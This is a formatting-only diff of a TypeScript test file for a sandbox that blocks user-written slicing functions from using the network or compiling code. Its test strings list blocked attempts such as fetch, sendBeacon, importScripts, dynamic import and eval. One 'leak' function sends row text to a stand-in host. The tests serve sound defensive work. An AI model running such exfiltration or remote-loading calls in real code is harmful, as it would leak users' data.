@@ -35,7 +35,10 @@ export const ATTEMPTS: [attempt: string, names: RegExp][] = [
   ['new EventSource("https://example.com")', /new EventSource is blocked: SF code cannot use the network/],
   ['importScripts("https://example.com/x.js")', /importScripts is blocked: SF code cannot use the network/],
   ['navigator.sendBeacon("https://example.com", "x")', /navigator\.sendBeacon is blocked: SF code cannot use the network/],
-  ['import("https://example.com/x.js")', /^Dynamic import\(\) is blocked \(line 2, column 3\): SF code cannot load code or reach the network/],
+  [
+    'import("https://example.com/x.js")',
+    /^Dynamic import\(\) is blocked \(line 2, column 3\): SF code cannot load code or reach the network/,
+  ],
   ['import.meta.url', /^import\.meta is blocked \(line 2, column 3\)/],
   // Compiling or scheduling code from strings.
   ['eval("1 + 1")', /eval\(\) is blocked: SF code cannot compile or schedule code/],
@@ -53,19 +56,27 @@ describe('SF sandbox: every attempt to reach the page, storage, cookies or the n
     expect(attemptMessage(attempt)).toMatch(names);
   });
 
-  it('reports a blocked attempt as the SF\'s runtime error at its line and first row', () => {
-    const result = runSfSource(spamTable(), 'export const ok = (row: Row) => true;\n\nexport const leak = (row: Row) =>\n  fetch("https://x.test/" + row.text) !== null;\n');
+  it("reports a blocked attempt as the SF's runtime error at its line and first row", () => {
+    const result = runSfSource(
+      spamTable(),
+      'export const ok = (row: Row) => true;\n\nexport const leak = (row: Row) =>\n  fetch("https://x.test/" + row.text) !== null;\n',
+    );
     expect(result.ok).toBe(false);
     if (result.ok) return;
     expect(result.errors).toEqual([expect.objectContaining({ kind: 'runtime', sf: 'leak', row: 0, line: 4 })]);
-    expect(result.errors[0]?.message).toBe('SF "leak" threw at row 0: fetch is blocked: SF code cannot use the network. Slicing functions may only read the row and their own helpers.');
+    expect(result.errors[0]?.message).toBe(
+      'SF "leak" threw at row 0: fetch is blocked: SF code cannot use the network. Slicing functions may only read the row and their own helpers.',
+    );
   });
 
   it('normal code runs: Math, JSON, Set, RegExp, typeof of a stand-in', () => {
-    const result = runSfSource(spamTable(), `
+    const result = runSfSource(
+      spamTable(),
+      `
 const kinds = [typeof fetch, typeof document];
 export const normal_code = (row: Row) => Math.max(row.score, 0) > 1 && JSON.stringify([row.text]).length > 0 && new Set([1]).size === 1 && kinds[0] === 'function';
-`);
+`,
+    );
     if (!result.ok) throw new Error(JSON.stringify(result.errors));
     expect(result.slices.map((s) => [s.name, s.count])).toEqual([['normal_code', 3]]);
   });
